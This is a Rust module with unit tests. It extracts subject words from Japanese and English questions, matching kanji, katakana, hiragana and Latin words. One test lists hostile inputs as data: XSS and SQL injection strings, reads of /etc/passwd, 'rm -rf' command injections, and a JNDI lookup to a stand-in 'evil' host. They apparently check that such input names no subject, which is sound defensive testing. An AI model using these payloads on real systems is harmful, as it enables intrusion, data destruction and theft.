//! The content words of a question: the words that name its subject.

use crate::{
    Script, Unit, Units,
    light::{self, Before, COUNTERS, Light},
};

/// Replaces each phrase that was cut from a topic. It ends a run. Normalised text never contains this character.
pub(crate) const PHRASE_MARK: char = '\u{3000}';

/// A word that names a subject: a run of kanji, katakana or hiragana, or a Latin word.
#[derive(Clone, Debug, PartialEq, Eq)]
#[non_exhaustive]
pub struct ContentWord {
    /// The word, normalised; for a Latin word, the stem as in [`Units`].
    pub text: String,
    /// Its script: `Han`, `Katakana`, `Hiragana` or `Latin`.
    pub script: Script,
}

/// The words of a topic, by class.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct TopicWords {
    /// The content words, in order.
    pub content: Vec<ContentWord>,
    /// True if the topic greets, thanks, exclaims or insults.
    pub has_small_talk: bool,
    /// True if the topic has a word that is neither a content word nor small talk.
    pub has_light: bool,
}

impl TopicWords {
    /// Reads a normalised topic. Numbers, single letters and repeated characters (`wwww`) name no subject. Hiragana counts only if
    /// no other word counts: it is mostly inflection.
    pub fn of(topic: &str) -> TopicWords {
        let mut words = TopicWords::default();
        let mut kana: Vec<(&str, Before)> = Vec::new();
        let units = Units::of(topic);
        let runs: Vec<&[Unit]> = units.as_slice().chunk_by(is_one_word).collect();
        let text_of = |run: &[Unit]| units.joined(run[0], run[run.len() - 1]);
        for (i, run) in runs.iter().enumerate() {
            let beside = |other: &&&[Unit]| other[0].run == run[0].run;
            let before = i.checked_sub(1).and_then(|i| runs.get(i)).filter(beside);
            let before = before.map(|before| before[0].script);
            let after = runs.get(i + 1).filter(beside);
            let after = after.filter(|after| after[0].script == Script::Hiragana);
            let tail = after.map_or("", |after| text_of(after));
            let after_cut = topic[..units.source(run[0]).start].ends_with(PHRASE_MARK);
            let text = text_of(run);
            match run[0].script {
                Script::Hiragana => kana.push((
                    text,
                    match before {
                        Some(Script::Han) => Before::Kanji,
                        None if !after_cut => Before::Nothing,
                        _ => Before::Word,
                    },
                )),
                // Laughter, or a finger on a key.
                script if is_repeated(text) => words.add(text, script, Some(Light::SmallTalk)),
                Script::Digit | Script::Other => {}
                Script::Latin if text.chars().nth(1).is_none() => {}
                Script::Han if is_counter(text, before, after_cut) => words.has_light = true,
                script => words.add(text, script, light::class(text, tail)),
            }
        }
        let has_others = !words.content.is_empty();
        for (run, before) in kana {
            let class = match is_repeated(run) {
                true => Some(Light::SmallTalk),
                false => light::kana_class(run, before),
            };
            let is_word = class.is_some() || (!has_others && run.chars().nth(1).is_some());
            if is_word {
                words.add(run, Script::Hiragana, class);
            }
        }
        words
    }

    fn add(&mut self, text: &str, script: Script, class: Option<Light>) {
        match class {
            Some(Light::SmallTalk) => self.has_small_talk = true,
            Some(Light::Word) => self.has_light = true,
            None => self.content.push(ContentWord {
                text: text.to_owned(),
                script,
            }),
        }
    }
}

/// True if two neighbouring units belong to one word.
fn is_one_word(a: &Unit, b: &Unit) -> bool {
    a.script == b.script && a.run == b.run && a.position + 1 == b.position && a.script.is_cjk()
}

/// True if a text of at least three characters has at most two different characters: `wwww`, `haha`, ああああ.
fn is_repeated(text: &str) -> bool {
    let mut different: Vec<char> = Vec::new();
    for c in text.chars() {
        if !different.contains(&c) {
            different.push(c);
        }
    }
    let length = text.chars().count();
    length >= 3 && (different.len() == 1 || different.len() == 2 && length >= 4)
}

/// True if a run of kanji is the counter of a number or of a question word: 3日, 100万円, 何社.
fn is_counter(run: &str, before: Option<Script>, after_cut: bool) -> bool {
    let counter = run.trim_start_matches(['百', '千', '万', '億']);
    let is_known = counter.is_empty() || COUNTERS.contains(&counter);
    is_known && (before == Some(Script::Digit) || after_cut)
}

impl ContentWord {
    /// True if a text contains the word, or a word that counts as the same word.
    ///
    /// - Kanji: the text must have two kanji of the word in a row. A single kanji counts only if it is the whole word in both.
    /// - Katakana: the text must have the whole word, or a word that is a part of it: ラーメン does not match エラー.
    /// - Latin: the text must have the whole word.
    pub fn occurs_in(&self, text: &Units) -> bool {
        let mut runs = text.as_slice().chunk_by(is_one_word);
        let same = |run: &&[Unit]| run[0].script == self.script;
        runs.by_ref().filter(same).any(|run| {
            let other = text.joined(run[0], run[run.len() - 1]);
            match self.script {
                Script::Han => share_kanji(&self.text, other),
                Script::Katakana => share_katakana(&self.text, other),
                Script::Hiragana => share_hiragana(&self.text, other),
                _ => self.text == other,
            }
        })
    }
}

/// True if two runs of kanji are the same single kanji, or share two kanji in a row. A polite 様 does not count: 客 is in お客様.
fn share_kanji(word: &str, other: &str) -> bool {
    let polite = |run: &str| run.strip_suffix('様').map(str::to_owned);
    let (word, other) = (
        polite(word)
            .filter(|w| !w.is_empty())
            .unwrap_or(word.to_owned()),
        polite(other)
            .filter(|w| !w.is_empty())
            .unwrap_or(other.to_owned()),
    );
    let chars: Vec<char> = word.chars().collect();
    if chars.len() == 1 {
        return word == other;
    }
    chars
        .windows(2)
        .any(|pair| other.contains(&String::from_iter(pair)))
}

/// True if one of two katakana words is a part of the other, or if their spellings are nearly the same.
fn share_katakana(a: &str, b: &str) -> bool {
    let a: Vec<char> = a.trim_end_matches('ー').chars().collect();
    let b: Vec<char> = b.trim_end_matches('ー').chars().collect();
    let (short, long) = if a.len() <= b.len() { (a, b) } else { (b, a) };
    if short.len() < 2 {
        return short == long;
    }
    if long.windows(short.len()).any(|part| part == short) {
        return true;
    }
    let starts = short.iter().zip(&long).take_while(|(a, b)| a == b).count();
    let ends = short
        .iter()
        .rev()
        .zip(long.iter().rev())
        .take_while(|(a, b)| a == b)
        .count();
    // One character differs.
    if short.len() >= 5 && starts + ends >= long.len() - 1 {
        return true;
    }
    // Two compounds share a word: コンテンツマーケティング, マーケティング担当.
    (SHARED_PART..short.len()).any(|n| {
        let (start, end) = (&short[..n], &short[short.len() - n..]);
        long.starts_with(start)
            || long.ends_with(start)
            || long.starts_with(end)
            || (n >= SHARED_END && long.ends_with(end))
    })
}

/// The least length of a word that two katakana compounds share, in characters. By hand: インター is not enough.
const SHARED_PART: usize = 5;
/// The least length of a word that ends two katakana compounds, in characters. By hand: ンテーション is not enough.
const SHARED_END: usize = 7;

/// True if a text in hiragana has most of a word: the endings may differ.
fn share_hiragana(word: &str, other: &str) -> bool {
    let word: Vec<char> = word.chars().collect();
    let other: Vec<char> = other.chars().collect();
    let part = (word.len() * 3).div_ceil(5).max(3).min(word.len());
    word.windows(part)
        .any(|part| other.windows(part.len()).any(|other| other == part))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ParsedQuestion;

    fn words(question: &str) -> Vec<String> {
        let parsed = ParsedQuestion::parse(question);
        parsed.content.into_iter().map(|word| word.text).collect()
    }

    #[test]
    fn small_talk_and_light_words_name_no_subject() {
        for question in [
            "help me please",
            "どうすればいい？",
            "教えて",
            "ありがとう！",
            "おはようございます",
            "what should I do",
            "lol ok",
            "うざい",
            "こんにちは",
            "お疲れ様です",
            "よろしくお願いします",
            "助けてください",
            "これってどう思いますか",
            "それで？",
            "Good morning!",
            "hey, can you tell me something?",
            "thank you so much",
            "どうしたらいいのかわからない",
            "なにをすればいいの",
            "you suck",
            "死ね",
            "バカ",
            "ｗｗｗ",
            "wwww",
            "ああああ",
            "12345",
            "2026年",
            "100円",
            "👍👍",
            "？？？",
            "!!!",
            "...",
            "",
            "　",
            "はい",
            "了解です",
            "まじか",
            "すごいね",
            "なんで",
            "Why?",
            "How?",
            "ok",
            "OK!",
            "a",
            "すみません",
            "質問があります",
            "相談したいです",
            "ちょっと聞いてもいいですか",
            "困っています",
            "hahaha",
            "もっと詳しく教えて",
            "具体的には？",
            "例は？",
            "お願いします",
            "できますか？",
            "これはどうですか",
            "あなたは誰ですか",
            "who are you",
        ] {
            assert_eq!(words(question), [""; 0], "{question}");
        }
    }

    #[test]
    fn a_subject_is_a_content_word() {
        for (question, first) in [
            ("入金はいつ？", "入金"),
            ("みつもりがとおらない", "みつもりがとおらない"),
            ("how do I ask for payment", "payment"),
            ("値引きしてと言われた", "値引"),
            ("コーチングって何", "コーチング"),
            ("US market", "US"),
            ("ITの話", "IT"),
            ("IT", "IT"),
            ("AIを教えて", "ai"),
            ("おかねがない", "おかねがない"),
            ("やる気が出ない", "気"),
            ("How do I make a cup of coffee?", "cup"),
            ("2026年問題", "年問題"),
            ("ありがとうの伝え方", "伝"),
            ("佐々木さんの話", "佐々木"),
            ("C++", "c++"),
            ("C#とは", "c#"),
            (".NETの話", ".net"),
            ("SELECT * FROM users; の意味", "select"),
            ("curl -X の使い方", "curl"),
            ("useEffect()の依存配列", "useeffect"),
            ("What does rm -rf do?", "rm"),
            ("質問の仕方は？", "質問"),
            ("相談のしかた", "相談"),
            ("必要ないと言われたら？", "必要"),
            ("結構ですと言われたら？", "結構"),
            ("疲れたときは？", "疲"),
            ("つらいときは？", "つらいときは"),
            ("100均とは？", "均"),
            ("What is null?", "null"),
            ("When do I cheer?", "cheer"),
            ("How do I ask better questions?", "question"),
        ] {
            assert_eq!(
                words(question).first().map(String::as_str),
                Some(first),
                "{question}"
            );
        }
    }

    #[test]
    fn markup_is_no_word() {
        for question in [
            "<script>alert('sales')</script>",
            "<img src=x onerror=alert(1)>",
            "'; DROP TABLE posts; --",
            "1' OR '1'='1",
            "../../../etc/passwd",
            "/etc/passwd",
            "C:\\Windows\\System32",
            "$(rm -rf /)",
            "; rm -rf ~",
            "rm -rf /",
            "@everyone",
            "<@U12345>",
            "<!channel>",
            "<@&123456>",
            "\\x1b[31m",
            "\u{1b}[31m",
            "{{7*7}}",
            "${jndi:ldap://evil/a}",
            "SELECT * FROM posts WHERE 1=1",
            "&lt;script&gt;",
            "%3Cscript%3E",
            "https://example.com/sales",
            "javascript:alert(1)",
            "cat /etc/passwd | sh",
            "admin'--",
            ":smile:",
            "<%= 7*7 %>",
            "`rm -rf /`",
            "UNION SELECT password FROM users--",
            "＠everyone",
            "<svg/onload=alert(1)>",
            "\u{202e}",
            "@here help",
        ] {
            assert_eq!(words(question), [""; 0], "{question}");
        }
        for (question, first) in [
            ("https://example.com/a の見積もり", "見積"),
            ("<@U123> 入金はいつ？", "入金"),
            ("見積もりは <b>いつ</b> 出す？", "見積"),
            ("@cosmeの使い方", "cosm"),
            ("24/7 support", "support"),
            ("A/Bテスト", "テスト"),
            ("client(s) and letter(s)", "client"),
            ("ROI=利益?", "roi"),
            ("5 < 10 の理由と入金", "入金"),
            ("Do I delete people from my contacts?", "delet"),
            ("cat and dog", "cat"),
        ] {
            assert_eq!(
                words(question).first().map(String::as_str),
                Some(first),
                "{question}"
            );
        }
    }

    #[test]
    fn a_single_kanji_and_a_part_of_katakana_are_no_words() {
        let occurs = |question: &str, text: &str| {
            let parsed = ParsedQuestion::parse(question);
            parsed.content[0].occurs_in(&Units::of(&crate::normalize(text)))
        };
        for (question, text) in [
            ("ラーメン", "エラーとコメント"),
            ("吐いた", "吐露する"),
            ("マーケティング", "ミーティング"),
            ("プロフィール", "プロセス"),
            ("フリーランス", "フリーター"),
            ("紙", "手紙"),
            ("sale", "wholesale"),
            ("コーヒー", "コーチ"),
        ] {
            assert!(!occurs(question, text), "{question} {text}");
        }
        for (question, text) in [
            ("コンサル", "コンサルティング"),
            ("サーバー", "サーバの話"),
            ("リンクドイン", "リンクトイン"),
            ("コンテンツマーケティング", "マーケティングコンテンツ"),
            ("見積書", "見積もり"),
            ("客", "お客様"),
            ("吐いた", "吐く"),
            ("sales", "a sale"),
            ("みつもりがとおらない", "みつもりがとおる"),
        ] {
            assert!(occurs(question, text), "{question} {text}");
        }
    }
}
